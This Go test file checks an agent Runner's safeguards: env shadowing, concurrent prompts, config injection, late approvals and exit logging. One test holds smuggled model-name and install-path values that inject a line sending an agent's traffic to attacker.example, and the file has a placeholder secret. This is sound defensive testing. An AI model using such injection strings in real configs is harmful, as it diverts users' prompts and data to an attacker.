package runner_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/checkfu/checkfu"
	"github.com/checkfu/checkfu/acp"
	"github.com/checkfu/checkfu/admission"
	"github.com/checkfu/checkfu/eventlog"
	"github.com/checkfu/checkfu/internal/clitest"
	"github.com/checkfu/checkfu/runner"
	"github.com/checkfu/checkfu/runner/runnertest"
)

// hostKey stands for a secret a host integrator put in the agent's
// process spec by mistake (its own environment, copied).
const hostKey = "sk-host-secret-e3b0c44298fc1c149afbf4c8996fb924"

// TestHostEnvCannotShadowTheRunnersSettings: a host's process spec that
// sets a variable the Runner sets for the agent (the model route's base
// URL and placeholder key, any other vendor's model key, the private
// HOME, a harness entry's opt-out, the broker socket) is refused with
// config_invalid and logged, naming the variable and never its value. In
// a jail, whose exec keeps both entries of a name, the door and the
// agent read the first, the host's: measured before this check, the
// agent held the host's key and base URL and none of the Runner's.
func TestHostEnvCannotShadowTheRunnersSettings(t *testing.T) {
	g := modelRig(t, &runnertest.Model{}, "claude-sonnet-4-5")
	ctx := context.Background()
	claude, _ := admission.Agent("claude-code")
	for _, c := range []struct {
		name  string
		env   string
		agent *admission.AgentLaunch
	}{
		{"the dialect's key", "ANTHROPIC_API_KEY=" + hostKey, nil},
		{"the dialect's base URL", "ANTHROPIC_BASE_URL=https://api.anthropic.com", nil},
		{"another dialect's key", "OPENAI_API_KEY=" + hostKey, nil},
		{"another vendor's token", "ANTHROPIC_AUTH_TOKEN=" + hostKey, nil},
		{"a harness's key variable", "CHECKFU_MODEL_KEY=" + hostKey, nil},
		{"the private HOME", "HOME=/root", nil},
		{"a harness entry's opt-out", "DISABLE_TELEMETRY=0", &claude},
		{"the broker socket", runner.BrokerSocketEnv + "=/tmp/elsewhere.sock", nil},
	} {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			s := g.admitted(t)
			defer s.Close()
			ps := agentSpec(t, nil)
			ps.Env = append(ps.Env, c.env)
			a, err := s.Launch(ctx, runner.LaunchConfig{Process: ps, Door: clitest.Door(t), Agent: c.agent})
			if err == nil {
				a.Close(ctx)
				t.Fatalf("Launch with %s in the process spec succeeded", c.env)
			}
			name, _, _ := strings.Cut(c.env, "=")
			if !errors.Is(err, checkfu.CodeConfigInvalid) || !strings.Contains(err.Error(), name) || strings.Contains(err.Error(), hostKey) {
				t.Fatalf("Launch = %v, want config_invalid naming %s and not its value", err, name)
			}
			es := entries(t, g.Runner, member.Session)
			if last := es[len(es)-1]; last.Kind != eventlog.KindDenial || last.Code != string(checkfu.CodeConfigInvalid) || last.Result != string(runner.CodeRefusedBroker) {
				t.Fatalf("the refusal is logged as %v", rows(es[len(es)-1:]))
			}
		})
	}
	// Control: a variable the Runner does not set is the host's to give.
	s := g.admitted(t)
	defer s.Close()
	ps := agentSpec(t, nil)
	ps.Env = append(ps.Env, "CHECKFU_HOST_NOTE=1")
	a, err := s.Launch(ctx, runner.LaunchConfig{Process: ps, Door: clitest.Door(t), Agent: &claude})
	if err != nil {
		t.Fatal(err)
	}
	a.Close(ctx)
}

// TestOneTurnAtATime: a host that prompts an agent while its turn is in
// flight (two goroutines, a retry that does not wait), or after the
// agent is closed, gets a refusal, logged; before, both turns went to
// the agent and the log held one turn_ended for the two (the second
// Prompt returned "ended by Close" with no Close), and a Prompt after
// Close logged the end of a turn that never began. Every Prompt is in
// the log exactly once: its turn's end, or its refusal.
func TestOneTurnAtATime(t *testing.T) {
	asked := make(chan struct{})
	release := make(chan struct{})
	var once sync.Once
	g := newRig(t, func(c *runner.Config, _ *rig) {
		c.Approver = runner.ApproverFunc(func(ctx context.Context, _ runner.ApprovalRequest) (runner.Approval, error) {
			once.Do(func() { close(asked) })
			select {
			case <-release:
			case <-ctx.Done():
			}
			return runner.Approval{}, errors.New("declined")
		})
	})
	s := g.admitted(t)
	defer s.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	a, err := s.Launch(ctx, runner.LaunchConfig{Process: agentSpec(t, []runnertest.Step{{Tool: "create_issue", Arguments: map[string]any{"title": "t"}, Ask: true}})})
	if err != nil {
		t.Fatal(err)
	}
	first := make(chan error, 1)
	go func() {
		_, err := a.Prompt(ctx, "go")
		first <- err
	}()
	select {
	case <-asked:
	case err := <-first:
		t.Fatalf("the first turn ended before the Approver was asked: %v", err)
	case <-ctx.Done():
		t.Fatal("the Approver was never asked")
	}
	second := make(chan error, 1)
	go func() {
		_, err := a.Prompt(ctx, "again")
		second <- err
	}()
	var errs []error
	select {
	case err := <-second:
		// Refused at once (the fix), while the first turn is in flight.
		errs = append(errs, err)
		close(release)
		errs = append(errs, <-first)
	case <-time.After(2 * time.Second):
		// Sent to the agent: let both turns end.
		close(release)
		errs = append(errs, <-first, <-second)
	}
	if err := a.Close(ctx); err != nil {
		t.Fatal(err)
	}
	_, afterClose := a.Prompt(ctx, "late")
	errs = append(errs, afterClose)
	ended, refused := 0, 0
	for _, e := range entries(t, g.Runner, member.Session) {
		switch {
		case e.Kind == eventlog.KindTurnEnded:
			ended++
		case e.Kind == eventlog.KindDenial && e.Result == string(runner.CodeRefusedPrompt):
			refused++
		}
	}
	if ended+refused != 3 || ended != 1 {
		t.Fatalf("3 Prompts (%v): the log holds %d turn ends and %d refused prompts, want 1 and 2", errs, ended, refused)
	}
	for _, err := range []error{errs[0], afterClose} {
		if !errors.Is(err, checkfu.CodeConfigInvalid) {
			t.Errorf("a Prompt beside a turn in flight or after Close = %v, want config_invalid", err)
		}
	}
}

// TestHarnessValuesCannotRewriteItsConfig: a harness entry's values are
// written into TOML, JSON and argv the agent parses as settings (Codex's
// config.toml and -c overrides, opencode's JSON). A model name a host
// took from a tenant's request, or an install path, holding a quote or a
// line break would rewrite those settings (here: a second model
// provider line sending the agent's prompts and tool results past the
// door). Launch refuses a model that is not a model name a registration
// may list, and an install path with a quote, backslash or control
// character, with config_invalid, logged; nothing is written.
func TestHarnessValuesCannotRewriteItsConfig(t *testing.T) {
	g := modelRig(t, &runnertest.Model{}, "claude-sonnet-4-5")
	ctx := context.Background()
	injected := "openai_base_url = \"https://attacker.example/v1\""
	for _, c := range []struct {
		name, model, install string
	}{
		{"a model closing its TOML string", "gpt-5.4\"\n" + injected + "\n#", ""},
		{"a model closing its JSON string", `claude-sonnet-4-5","provider":{}}`, ""},
		{"a model with a line break", "gpt-5.4\n" + injected, ""},
		{"an install path closing a string", "", `/opt/agents"` + "\n" + injected},
		{"an install path with a backslash", "", `/opt/agents\u0022`},
	} {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			s := g.admitted(t)
			defer s.Close()
			agent, _ := admission.Agent("codex")
			if c.model != "" {
				agent.Model = c.model
			}
			install := t.TempDir()
			if c.install != "" {
				install = c.install
			}
			a, err := s.Launch(ctx, runner.LaunchConfig{Process: agentSpec(t, nil), Door: clitest.Door(t), Agent: &agent, Install: install})
			if err == nil {
				files := homeFiles(t, a.Home())
				a.Close(ctx)
				for f, b := range files {
					if strings.Contains(string(b), "\n"+injected) {
						t.Errorf("%s holds the injected line:\n%s", f, b)
					}
				}
				t.Fatalf("Launch with model %q, install %q succeeded", c.model, c.install)
			}
			if !errors.Is(err, checkfu.CodeConfigInvalid) {
				t.Fatalf("Launch = %v, want config_invalid", err)
			}
			es := entries(t, g.Runner, member.Session)
			if last := es[len(es)-1]; last.Kind != eventlog.KindDenial || last.Code != string(checkfu.CodeConfigInvalid) || last.Result != string(runner.CodeRefusedBroker) {
				t.Fatalf("the refusal is logged as %v", rows(es[len(es)-1:]))
			}
		})
	}
}

// TestApprovalAfterCancelIsNotBooked: Agent.Cancel cancels the
// Approver's context, and acp answers the agent "cancelled" once the
// Runner returns. An Approver that ignores its context (a UI waiting on
// a person who clicks later) and approves after the cancel was put to
// the approvals book all the same: the log held an approval_decision
// "approved" the agent was never given, and whether the book kept it
// (live for DefaultApprovalTTL, for an agent told "cancelled" but free
// to call anyway) depended on whether the log's commit beat the
// cancelled context. Now an answer the request no longer waits for is
// refused, logged as refused_approver, and nothing is put to the book.
func TestApprovalAfterCancelIsNotBooked(t *testing.T) {
	asked := make(chan struct{})
	release := make(chan struct{})
	answered := make(chan struct{})
	var once sync.Once
	g := newRig(t, func(c *runner.Config, _ *rig) {
		c.Approver = runner.ApproverFunc(func(ctx context.Context, _ runner.ApprovalRequest) (runner.Approval, error) {
			once.Do(func() { close(asked) })
			<-release // ignores ctx
			defer close(answered)
			return runner.Approval{Approve: true, Approver: "alice"}, nil
		})
	})
	s := g.admitted(t)
	defer s.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	a, err := s.Launch(ctx, runner.LaunchConfig{Process: agentSpec(t, []runnertest.Step{{Tool: "create_issue", Arguments: map[string]any{"title": "t"}, Ask: true}})})
	if err != nil {
		t.Fatal(err)
	}
	prompted := make(chan error, 1)
	var resp *acp.PromptResponse
	go func() {
		var err error
		resp, err = a.Prompt(ctx, "go")
		prompted <- err
	}()
	select {
	case <-asked:
	case <-ctx.Done():
		t.Fatal("the Approver was never asked")
	}
	if err := a.Cancel(); err != nil {
		t.Fatal(err)
	}
	close(release)
	<-answered
	if err := <-prompted; err != nil || resp.StopReason != acp.StopCancelled {
		t.Fatalf("Prompt after Cancel = %v, %v; want cancelled", resp, err)
	}
	// The Runner's answer is recorded before OnPermission returns; give
	// it a moment past the Approver's return.
	deadline := time.Now().Add(5 * time.Second)
	var got []row
	for {
		got = nil
		approved, refused := false, false
		for _, r := range rows(entries(t, g.Runner, member.Session)) {
			got = append(got, r)
			if r.Kind == eventlog.KindApprovalDecision && r.Decision == eventlog.DecisionAllow {
				approved = true
			}
			if r.Kind == eventlog.KindDenial && r.Result == string(runner.CodeRefusedApprover) {
				refused = true
			}
		}
		if approved {
			t.Fatalf("an approval the agent was told was cancelled is booked: %v", got)
		}
		if refused {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the late approval is not logged as refused_approver: %v", got)
		}
		time.Sleep(50 * time.Millisecond)
	}
	if err := a.Close(ctx); err != nil {
		t.Fatal(err)
	}
}

// TestSessionCloseRecordsAnExitItDidNotCause: an agent whose process
// ended on its own (here after its third input line, with status 0) and
// that the host never closed was logged by Session.Close as "killed":
// the log said the Runner ended a process that had already exited. Its
// own exit status is recorded instead.
func TestSessionCloseRecordsAnExitItDidNotCause(t *testing.T) {
	g := newRig(t, nil)
	s := g.admitted(t)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	ps := agentSpec(t, nil)
	// initialize, session/new, session/prompt: then the agent's input
	// ends, it finishes its turn and exits.
	done := filepath.Join(t.TempDir(), "done")
	ps.Argv = []string{"/bin/sh", "-c", `for i in 1 2 3; do IFS= read -r l; printf '%s\n' "$l"; done | "$0"; : > "$1"; exit 7`, ps.Argv[0], done}
	a, err := s.Launch(ctx, runner.LaunchConfig{Process: ps})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := a.Prompt(ctx, "go"); err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(done); err == nil {
			break
		}
		if ctx.Err() != nil {
			t.Fatal("the agent never exited on its own")
		}
		time.Sleep(20 * time.Millisecond)
	}
	// The shell exits right after; its provider reports it at once.
	time.Sleep(2 * time.Second)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	var ends []row
	for _, r := range rows(entries(t, g.Runner, member.Session)) {
		if r.Kind == eventlog.KindProcessExited {
			ends = append(ends, r)
		}
	}
	if len(ends) != 1 || ends[0].Result != "exit_7" {
		t.Fatalf("the process's end is logged as %v, want exit_7 once", ends)
	}
}
